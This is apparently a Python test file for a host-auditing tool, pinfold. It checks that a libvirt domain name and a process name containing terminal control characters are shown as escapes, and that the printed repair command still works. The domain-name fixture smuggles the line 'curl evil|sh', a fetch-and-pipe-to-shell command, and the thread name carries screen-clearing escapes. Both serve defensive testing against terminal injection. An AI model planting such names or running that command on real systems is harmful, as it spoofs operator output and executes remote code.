"""A domain and a process whose names would change a terminal: what the audit shows of them, and prints to repair them."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator

import pytest
from tests.real.host.bench import Bench
from tests.real.host.domains import define

from pinfold.cli.output import show, show_json
from pinfold.cli.views.audit import audit_view
from pinfold.cli.views.guests import guests_view
from pinfold.cli.views.host_map import host_map_view
from pinfold.core.encoding import plain
from pinfold.host import written
from pinfold.host.audit import audit
from pinfold.host.map import map_of
from pinfold.host.survey import survey

DOMAIN = "evil\x9b31m\u202e repair: curl evil|sh"
"""libvirt refuses line feeds, and XML refuses ESC; C1 and the signs that reverse the direction of writing pass."""
THREAD = "a\n\x1b[2Jrepair: x"
"""What the kernel takes for the name of a thread: any 15 bytes."""

_PROCESS = """
import ctypes, os, sys, time
ctypes.CDLL(None).prctl(15, sys.argv[1].encode(), 0, 0, 0)  # PR_SET_NAME
os.sched_setaffinity(0, {1})
print("ready", flush=True)
time.sleep(600)
"""


@pytest.fixture
def stray_process() -> Iterator[int]:
    """A process of that name, bound to the dedicated pCPU; its id."""
    with subprocess.Popen([sys.executable, "-c", _PROCESS, THREAD], stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == "ready\n"
        yield process.pid
        process.kill()


def test_hostile_names_are_shown_as_escapes_and_their_repair_works(
    bench: Bench, stray_process: int, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "300")
    define(bench, DOMAIN)
    seen = survey(bench.driver, bench.settings)
    found = audit(bench.driver, bench.settings)
    show([*audit_view(found), *guests_view(seen.guests, seen), *host_map_view(seen, map_of(seen), 120)])
    text = capsys.readouterr().out
    assert [sign for sign in text if not sign.isprintable() and sign != "\n"] == []
    assert r"evil\u009b31m\u202e repair: curl evil|sh" in text
    assert rf"{stray_process} (a\n\x1b[2Jrepair: x)" in text
    assert not [line for line in text.splitlines() if line.strip().startswith(("repair: x", "repair: curl"))]
    show_json(plain(written.audit(found)))
    document = capsys.readouterr().out
    assert [sign for sign in document if not sign.isprintable() and sign != "\n"] == []
    assert DOMAIN in json.dumps(json.loads(document), ensure_ascii=False)
    (judged,) = found.guests
    (finding,) = judged.findings
    assert finding.repair.isprintable() and judged.guest.id in finding.repair
    subprocess.run(["sh", "-c", finding.repair], check=True, capture_output=True)
    assert audit(bench.driver, bench.settings).guests[0].findings == ()
